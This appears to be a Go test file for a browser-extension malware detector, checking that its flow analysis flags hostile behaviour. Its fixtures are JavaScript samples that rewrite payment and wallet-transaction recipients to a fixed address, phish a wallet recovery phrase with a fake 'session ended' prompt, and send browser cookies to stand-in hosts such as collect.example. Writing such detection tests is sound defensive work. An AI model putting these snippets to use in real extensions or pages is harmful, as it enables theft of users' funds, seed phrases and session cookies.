package flow

import (
	"slices"
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

const coin = "0x52908400098527886E0F7030069857D2E4169EE7"

func TestChangedOnTheWay(t *testing.T) {
	const asked = "wallet_request(https://www.exchange.test/*) > wallet_request"
	const changed, answer, wallet = "constant_address(" + coin + ") > request_body", "constant_address(" + coin + ") > response_body",
		"constant_address(" + coin + ") > wallet_request"
	for _, c := range []flowCase{
		{"deep in a body", behavior.PageWorld, `const f = window.fetch; window.fetch = (u, o) => { const b = JSON.parse(o.body); b.order.legs[0].payee = "` + coin + `"; return f(u, {...o, body: JSON.stringify(b)}) }`, []string{changed}},
		{"body of a Request", behavior.PageWorld, `const f = fetch; window.fetch = async (u, o) => { const b = JSON.parse(o.body); b.to = "` + coin + `"; return f(new Request(u, {...o, body: JSON.stringify(b)})) }`, []string{changed, "constant_address(" + coin + ") > site_request"}},
		{"prototype as a parameter", behavior.PageWorld, `(function (p, swap) { const s = p.send; p.send = function (b) { return s.call(this, swap(b)) } })(XMLHttpRequest.prototype, b => b.replace(/0x\w{40}/, "` + coin + `"))`, []string{changed}},
		{"proxy for fetch", behavior.PageWorld, `window.fetch = new Proxy(window.fetch, {apply(f, self, args) { const b = JSON.parse(args[1].body); b.to = "` + coin + `"; args[1].body = JSON.stringify(b); return Reflect.apply(f, self, args) }})`, []string{changed}},
		{"new Response", behavior.PageWorld, `const f = fetch; window.fetch = async (...a) => { const r = await f(...a); const t = await r.text(); return new Response(t.replace(/0x\w{40}/g, "` + coin + `"), r) }`, []string{answer}},
		{"responseText", behavior.PageWorld, `const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { Object.defineProperty(this, "responseText", {get: () => "` + coin + `"}); return s.call(this, b) }`, []string{answer}},
		{"answers of a filter", behavior.Background, `browser.webRequest.onBeforeRequest.addListener(d => { const f = browser.webRequest.filterResponseData(d.requestId); let s = ""; f.ondata = e => { s += new TextDecoder().decode(e.data) }; f.onstop = () => { f.write(new TextEncoder().encode(s.replace(/0x\w{40}/, "` + coin + `"))); f.close() } }, {urls: ["https://*.exchange.test/*"]}, ["blocking"])`, []string{answer}},
		{"answers left alone", behavior.Background, `browser.webRequest.onBeforeRequest.addListener(d => { const f = browser.webRequest.filterResponseData(d.requestId); f.ondata = e => { f.write(e.data) } }, {urls: ["https://*.exchange.test/*"]}, ["blocking"])`, nil},
		{"provider as a parameter", behavior.PageWorld, `function hook(p) { const ask = p.request.bind(p); p.request = q => { q.params[0].to = "` + coin + `"; return ask(q) } } hook(window.ethereum)`, []string{wallet, asked}},
		{"instruction added", behavior.PageWorld, `function hook(p) { const sign = p.signTransaction.bind(p); p.signTransaction = tx => { tx.add(new Step(new Key("` + coin + `"))); return sign(tx) } } window.solana && hook(window.solana)`, []string{wallet, asked}},
		{"each of a list", behavior.PageWorld, `const p = window.solana, all = p.signAllTransactions.bind(p); p.signAllTransactions = l => all(l.map(t => { t.add("` + coin + `"); return t }))`, []string{wallet, asked}},
		{"proxy for a provider", behavior.PageWorld, `window.ethereum = new Proxy(window.ethereum, {get(p, k) { return k === "request" ? q => { q.params[0].to = "` + coin + `"; return p.request(q) } : p[k] }})`, []string{wallet, asked}},
		{"provider defined", behavior.PageWorld, `const real = window.ethereum; Object.defineProperty(window, "ethereum", {value: {request: q => { q.params[0].to = "` + coin + `"; return real.request(q) }}})`, []string{wallet}},
		{"announced provider", behavior.PageWorld, `addEventListener("eip6963:announceProvider", e => { const p = e.detail.provider, ask = p.request; p.request = q => { q.params[0].to = "` + coin + `"; return ask(q) } })`, []string{wallet, asked}},
		{"made by the page's own constructor", behavior.PageWorld, `const p = window.solana, sign = p.signTransaction.bind(p); p.signTransaction = tx => { const Step = tx.instructions[0].constructor, Key = p.publicKey.constructor; tx.add(new Step({keys: [{pubkey: new Key("` + coin + `"), isWritable: true}]})); return sign(tx) }`, []string{wallet, asked}},
	} {
		t.Run(c.name, c.run)
	}
}

func TestConstructorsOfFunctions(t *testing.T) {
	for _, make := range []string{`(function () {}).constructor`, `(() => {}).constructor`, `(async () => {}).constructor`, `[].filter.constructor`,
		`[]["filter"]["constructor"]`, `"".sub.constructor`, `[].constructor.constructor`, `setTimeout.constructor`,
		`Object.getPrototypeOf(async function () {}).constructor`} {
		flowCase{make, behavior.Content, `chrome.storage.local.get("css", s => ` + make + `(s.css)())`, []string{"storage(css) > eval"}}.run(t)
		flowCase{"kept: " + make, behavior.Content, `const paint = ` + make + `; chrome.storage.local.get("css", s => paint("x", s.css)(1))`, []string{"storage(css) > eval"}}.run(t)
	}
	flowCase{"of an object", behavior.Content, `class A { copy(x) { return new this.constructor(x) } } chrome.storage.local.get("css", s => new A().copy(s.css))`, nil}.run(t)
}

func TestWorkers(t *testing.T) {
	const read, sent = `chrome.cookies.getAll({}, l => `, `fetch("https://collect.example/", {body: JSON.stringify(e.data)})`
	for name, pair := range map[string][2]string{
		"onmessage":     {`const w = new Worker("calc.js"); ` + read + `w.postMessage({l}))`, `self.onmessage = e => ` + sent},
		"listener":      {`const w = new Worker("calc.js"); ` + read + `w.postMessage({l}))`, `addEventListener("message", e => ` + sent + `)`},
		"answer":        {`const w = new Worker("calc.js"); w.onmessage = e => ` + sent, read + `self.postMessage(l))`},
		"shared worker": {`const w = new SharedWorker("calc.js"); w.port.start(); ` + read + `w.port.postMessage(l))`, `onconnect = c => { const p = c.ports[0]; p.onmessage = e => ` + sent + ` }`},
	} {
		t.Run(name, func(t *testing.T) {
			r := analyzeText(t, testUnit(t, "bg.js", behavior.Background, pair[0]), testUnit(t, "calc.js", behavior.Background, pair[1]))
			if !slices.Contains(flowTexts(r), cookies) {
				t.Errorf("flows %v", flowTexts(r))
			}
		})
	}
}

func TestWordsOfAList(t *testing.T) {
	for _, c := range []flowCase{
		{"list of the package", behavior.Popup, `let words; async function at(w) { words = words || (await (await fetch(chrome.runtime.getURL("words.txt"))).text()).split("\n"); return words.indexOf(w) }
			document.getElementById("go").onclick = async () => { const n = await Promise.all(document.getElementById("mnemonic").value.split(" ").map(w => at(w))); fetch("https://collect.example/", {body: n.join()}) }`, []string{"seed_input(#mnemonic) > fetch > collect.example"}},
		{"words beside numbered fields", behavior.Content, `const words = []; show(() => h("div", {}, [h("p", "Your session has ended. To go on, enter the Secret Recovery Phrase of your wallet again in these fields."),
			...[1, 2, 3].map(i => h("input", {placeholder: i + ".", onInput: e => { words[i] = e.target.value }})), h("button", {onClick: () => fetch("https://collect.example/", {body: words.join(" ")})})]))`,
			[]string{"seed_input(input Your session has ended. To go on, enter the Secret Recovery Phrase of your wallet again in these fields.) > fetch > collect.example"}},
	} {
		t.Run(c.name, c.run)
	}
}

func TestTypedAddresses(t *testing.T) {
	const options = `const f = document.getElementById("f"); f.onsubmit = () => chrome.storage.local.set({server: f.elements.server.value.replace(/\/$/, "")});`
	const send = `const conf = () => chrome.storage.local.get(["server", "every"]); async function up() { const {server} = await conf(); const list = await chrome.cookies.getAll({domain: name()});
		await fetch(server + "/jar", {method: "PUT", body: JSON.stringify(list)}) } chrome.alarms.onAlarm.addListener(up);`
	const hand = `document.getElementById("go").onclick = () => chrome.runtime.sendMessage({server: document.getElementById("server").value});`
	const keep = `let to; chrome.runtime.onMessage.addListener(m => { to = m.server }); chrome.alarms.onAlarm.addListener(async () => {
		const list = await chrome.cookies.getAll({domain: name()}); fetch(ADDRESS + "/jar", {method: "PUT", body: JSON.stringify(list)}) });`
	for name, c := range map[string]struct {
		options, background string
		want                behavior.Party
	}{
		"handed on":          {hand, strings.Replace(keep, "ADDRESS", "to", 1), behavior.User},
		"a path handed on":   {hand, strings.Replace(keep, "ADDRESS", `base() + "/" + to`, 1), behavior.Unknown},
		"typed":              {options, send, behavior.User},
		"typed in before":    {options, `up(); ` + send, behavior.User},
		"default of a thief": {options, send + `chrome.storage.local.set({server: "https://collect.example"})`, "none"},
		"from a server":      {options, send + `fetch("https://config.example/c").then(r => r.json()).then(c => chrome.storage.local.set({server: c.server}))`, behavior.Unknown},
		"from a site":        {options, send + `chrome.runtime.onMessageExternal.addListener(m => chrome.storage.local.set({server: m.server}))`, behavior.Unknown},
		"pushed":             {options, send + `self.addEventListener("push", e => chrome.storage.local.set({server: e.data.json().server}))`, behavior.Unknown},
		"put into the field": {options + `fetch("https://config.example/c").then(async r => { f.elements.server.value = await r.text() });`, send, behavior.Unknown},
		"another key":        {options, send + `async function other() { const {back} = await chrome.storage.local.get("back"); const list = await chrome.cookies.getAll({domain: name()}); fetch(back, {body: list}) } other()`, behavior.Unknown},
		"nobody asks":        {``, send, behavior.Unknown},
	} {
		t.Run(name, func(t *testing.T) {
			r := analyzeText(t, testUnit(t, "bg.js", behavior.Background, c.background), testUnit(t, "options.js", behavior.Popup, c.options))
			party := behavior.Party("none")
			for _, f := range r.Flows {
				if f.Source == "cookies" && f.Host == "*" {
					party = f.Party
				}
			}
			if party != c.want {
				t.Errorf("party %q, want %q: %v", party, c.want, flowTexts(r))
			}
		})
	}
}

func TestRequestsToTheSite(t *testing.T) {
	for _, c := range []flowCase{
		{"what a server says", behavior.Content, `fetch("https://plan.example/next").then(r => r.json()).then(p => fetch(location.origin + "/send", {method: "POST", body: JSON.stringify({to: p.to})}))`, []string{"network(plan.example) > site_request"}},
		{"to another server", behavior.Content, `fetch("https://plan.example/next").then(r => r.json()).then(p => fetch("https://plan.example/done", {method: "POST", body: JSON.stringify({to: p.to})}))`, nil},
		{"in the background", behavior.Background, `fetch("https://plan.example/next").then(r => r.json()).then(p => fetch(base() + "/send", {method: "POST", body: JSON.stringify({to: p.to})}))`, nil},
	} {
		t.Run(c.name, c.run)
	}
	r := analyzeText(t, testUnit(t, "c.js", behavior.Content, `fetch("/send", {method: "POST", body: JSON.stringify({to: to(), coin: "BTC", memo: undefined})})`))
	if want := `{"method":"POST","body":{"to":"*","coin":"BTC","memo":"*"}}`; len(r.Calls) != 1 || r.Calls[0].Args[1] != want {
		t.Errorf("calls %+v, want %s", r.Calls, want)
	}
}
